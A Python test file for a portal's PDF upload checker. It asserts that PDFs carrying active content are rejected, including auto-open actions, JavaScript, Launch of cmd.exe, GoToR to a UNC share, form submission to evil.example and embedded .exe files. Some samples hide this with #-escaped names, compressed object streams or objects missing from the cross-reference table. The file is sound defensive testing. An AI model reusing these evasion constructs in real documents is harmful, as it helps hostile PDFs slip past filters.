"""Active content in PDFs is found in the object tree: escaped names, objects packed in compressed
object streams, every kind of action the portal refuses — and a plain document with links passes."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from osms.core.uploads import UploadRejected, upload_check

from .hostile_pdfs import packed_pdf, plain_pdf

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def refused(content: bytes) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        upload_check(SimpleUploadedFile("certificate.pdf", content))
    return caught.value


def with_page(page_extra: bytes, objects: dict[int, bytes] | None = None) -> bytes:
    return plain_pdf(CATALOG % b"", {3: PAGE % page_extra, **(objects or {})})


@pytest.mark.parametrize(
    ("content", "code"),
    [
        # Names written with #xx escapes, which a viewer reads as the plain name.
        (plain_pdf(CATALOG % b"/Open#41ction 5 0 R", {5: b"<< /S /GoTo /D [3 0 R /Fit] >>"}), "pdf_auto_action"),
        (
            with_page(
                b"/Annots [5 0 R]",
                {5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /J#61vaScript /JS (app.alert(1)) >> >>"},
            ),
            "pdf_javascript",
        ),
        (with_page(b"/#41A << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "pdf_auto_action"),
        (
            plain_pdf(
                CATALOG % b"/Names << /Embedded#46iles 5 0 R >>",
                {5: b"<< /Names [(a.exe) 6 0 R] >>", 6: b"<< /Type /Filespec /F (a.exe) >>"},
            ),
            "pdf_embedded_file",
        ),
        (
            with_page(b"/Annots [5 0 R]", {5: b"<< /Type /Annot /Subtype /File#41ttachment /Rect [0 0 9 9] >>"}),
            "pdf_embedded_file",
        ),
        (
            with_page(
                b"/Annots [5 0 R]",
                {5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (cmd.exe) >> >>"},
            ),
            "pdf_launch",
        ),
        (
            with_page(
                b"/Annots [5 0 R]",
                {
                    5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >> >>"
                },
            ),
            "pdf_launch",
        ),
        (
            with_page(
                b"/Annots [5 0 R]",
                {
                    5: b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /Submit#46orm /F (https://evil.example/) >> >>"
                },
            ),
            "pdf_submit",
        ),
        (
            with_page(
                b"/Annots [5 0 R]",
                {5: b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /ImportData /F (data.fdf) >> >>"},
            ),
            "pdf_submit",
        ),
        (
            plain_pdf(
                CATALOG % b"/AcroForm << /Fields [] /X#46A 5 0 R >>", {5: b"<< /Length 0 >>\nstream\n\nendstream"}
            ),
            "pdf_xfa",
        ),
        (
            with_page(b"/Annots [5 0 R]", {5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}),
            "pdf_rich_media",
        ),
    ],
    ids=[
        "open-action-escaped",
        "javascript-escaped",
        "page-aa-escaped",
        "embedded-files-escaped",
        "file-attachment",
        "launch",
        "gotor",
        "submit-form",
        "import-data",
        "xfa",
        "rich-media",
    ],
)
def test_active_content_with_escaped_names_is_refused(content, code):
    assert b"JavaScript" not in content and b"OpenAction" not in content
    assert refused(content).code == code


def test_a_script_packed_in_a_compressed_object_stream_is_refused():
    content = packed_pdf(CATALOG % b"/Open#41ction 5 0 R", {5: b"<< /S /J#61vaScript /JS (app.alert(1)) >>"})
    assert b"Action" not in content and b"Script" not in content  # nothing to see in the raw bytes
    assert refused(content).code in ("pdf_auto_action", "pdf_javascript")


def test_an_embedded_file_packed_in_an_object_stream_is_refused():
    content = packed_pdf(CATALOG % b"/Names 5 0 R", {5: b"<< /EmbeddedFiles << /Names [(x.exe) 8 0 R] >> >>"})
    assert refused(content).code == "pdf_embedded_file"


def test_an_object_outside_the_table_is_still_read():
    # A script object that the cross-reference table does not list, which a viewer repairing the
    # file could find: the file's own syntax is read as well.
    content = with_page(b"") + b"9 0 obj\n<< /S /J#61vaScript /JS (x) >>\nendobj\n"
    assert refused(content).code == "pdf_javascript"


def test_a_plain_document_with_links_and_a_form_passes():
    content = with_page(
        b"/Annots [5 0 R 6 0 R]",
        {
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://egov.kz/JS/verify?id=1) >> >>",
            6: b"<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
        },
    ).replace(b"/Pages 2 0 R", b"/Pages 2 0 R /AcroForm << /Fields [] >> /Title (JS /JavaScript in a string)")
    checked = upload_check(SimpleUploadedFile("certificate.pdf", content))
    assert checked.content_type == "application/pdf"


@pytest.mark.parametrize("language", ["kk", "ru"])
def test_each_refusal_is_explained_in_the_citizens_language(language):
    content = with_page(
        b"/Annots [5 0 R]", {5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x) >> >>"}
    )
    error = refused(content)
    with translation.override("en"):
        english = str(error.messages[0])
    with translation.override(language):
        translated = str(error.messages[0])
    assert translated != english and any("\u0400" <= ch <= "\u04ff" for ch in translated)
